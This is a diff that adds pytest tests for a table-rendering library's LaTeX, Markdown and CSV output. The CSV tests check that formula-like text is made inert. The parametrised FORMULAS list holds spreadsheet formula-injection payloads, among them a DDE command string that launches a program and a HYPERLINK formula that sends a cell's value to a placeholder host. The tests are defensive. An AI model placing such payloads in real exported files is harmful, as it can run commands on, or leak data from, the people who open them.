@@ -1,12 +1,15 @@
 """Tables as text: letters of notes, digits, and what LaTeX wants escaped."""
 
+import csv
+import io
 from typing import Any
 
+import pandas as pd
 import pytest
 
 from repro.artifacts.cells import digits
 from repro.artifacts.document import Cell, Column, Table, letter
-from repro.artifacts.render_tables import as_latex, as_markdown, latex_escape
+from repro.artifacts.render_tables import as_csv, as_latex, as_markdown, latex_escape
 
 
 def test_cells_of_a_long_table_are_looked_through_once_for_its_notes() -> None:
@@ -71,3 +74,53 @@ def test_what_users_name_is_text_in_latex_wherever_it_stands() -> None:
     caption = next(line for line in lines if line.startswith(r"\caption"))
     assert r"\textless{}img" in caption
     assert caption.endswith(r"\# d}"), "no end of a paragraph inside"
+
+
+def test_control_characters_are_none_in_latex_and_end_no_row_in_markdown() -> None:
+    assert latex_escape("a\tb\x00c\x0bd") == "a b?c?d"
+    table = Table((Column("a", "a"),), [(Cell("x\x0b\x0c\x1c\x85\u2028\u2029y"),)], "")
+    assert as_markdown(table).splitlines()[-1] == "| x      y |"
+
+
+FORMULAS = [
+    "=1+1",
+    '=HYPERLINK("http://a/"&A1)',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1)",
+    "\t=1",
+    "\r=1",
+    "\n=1",
+    "＝1",
+    "-",
+    "--x",
+    "=",
+]
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_no_text_of_a_csv_file_is_a_formula(text: str) -> None:
+    columns = (Column("name", "name", numeric=False), Column(text, "b"))
+    table = Table(columns, [(Cell(text, notes=(text,)), Cell(-1.5)), (Cell("plain"), Cell(2.0))], "")
+    written = as_csv(table)
+    heads, first, second = csv.reader(io.StringIO(written, newline=""), strict=True)
+    assert heads[1] == f"'{text}"
+    assert (first[0], first[2]) == (f"'{text}", f"'{text}")
+    assert second[:2] == ["plain", "2.0"]
+    read = pd.read_csv(io.StringIO(written, newline=""))
+    assert read["name"].tolist() == [f"'{text}", "plain"]
+    assert read[f"'{text}"].tolist() == [-1.5, 2.0]
+
+
+@pytest.mark.parametrize("value", [-1, -0.0, -1.5e-300, float("-inf"), "-1.5", "+3", "-1e-5", "-inf"])
+def test_negative_numbers_stay_numbers(value: float | str) -> None:
+    written = as_csv(Table((Column("a", "a"),), [(Cell(value),)], ""))
+    assert written.splitlines()[1] == f"{value},,"
+    assert pd.read_csv(io.StringIO(written))["a"].tolist() == [float(value)]
+
+
+@pytest.mark.parametrize("text", ["a\rb", "a\r\nb", "a\nb", 'a"b', "a,b", "a;b", "a\tb", "ä×–", " a ", "'a"])
+def test_text_is_read_back_as_it_was(text: str) -> None:
+    written = as_csv(Table((Column("a", "a"), Column("b", "b")), [(Cell(text), Cell(1))] * 2, ""))
+    assert [row[0] for row in csv.reader(io.StringIO(written, newline=""), strict=True)] == ["a", text, text]
+    assert pd.read_csv(io.StringIO(written, newline=""))["a"].tolist() == [text, text]
